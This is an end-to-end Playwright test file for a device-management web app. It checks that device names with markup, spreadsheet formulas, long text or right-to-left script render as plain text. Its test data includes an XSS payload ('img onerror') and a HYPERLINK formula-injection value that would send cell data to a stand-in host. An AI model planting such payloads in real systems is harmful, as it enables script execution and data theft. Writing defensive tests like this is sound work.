import { expect, openAs, test } from './support/fixtures.ts';
import { row } from './support/table.ts';

for (const [what, search, text] of [
  ['markup', 'onerror', '<img src=x onerror=alert(1)>'],
  ['a formula', 'hyperlink', '=HYPERLINK("http://example.com/?"&A1,"Click me")'],
  ['200 characters', 'extremely', 'Extremely long name '.repeat(10).trim()],
  ['right-to-left text', 'المدير', 'هاتف المدير العام (المكتب الرئيسي)'],
] as const) {
  test(`a name with ${what} is shown as text, in the table and on its page`, async ({ page }) => {
    page.on('dialog', () => expect('a dialog').toBe('never shown'));
    await openAs(page, 'helpdesk', `/devices?q=${encodeURIComponent(search)}`);
    await expect(row(page, 1)).toContainText(text);
    await expect(page.locator('img[src="x"]')).toHaveCount(0);
    await row(page, 1).getByRole('link').first().click();
    await expect(page.getByRole('heading', { level: 1 })).toContainText(text);
    await expect(page.locator('img[src="x"]')).toHaveCount(0);
    const isTooWide = () => document.documentElement.scrollWidth > document.documentElement.clientWidth;
    expect(await page.evaluate(isTooWide)).toBe(false);
    await page.setViewportSize({ width: 390, height: 844 });
    expect(await page.evaluate(isTooWide)).toBe(false);
  });
}
